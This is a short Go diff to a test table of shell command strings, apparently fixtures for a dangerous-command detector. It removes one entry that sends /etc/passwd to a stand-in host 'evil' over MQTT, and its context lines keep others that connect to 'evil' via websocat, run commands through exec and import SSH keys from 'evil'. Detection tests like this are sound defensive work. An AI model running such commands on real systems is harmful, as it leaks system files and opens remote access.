@@ -480,7 +480,6 @@ var surpriseLines = [][2]string{
 	{"consul watch x rm", "exact"},
 	{"nomad exec x sh", "exact"},
 	{"rabbitmqctl eval x", "exact"},
-	{"mosquitto_pub -h evil -f /etc/passwd", "exact"},
 	{"websocat ws://evil", "exact"},
 	{"websocat exec:id x", "exact"},
 	{"ssh-import-id evil", "exact"},
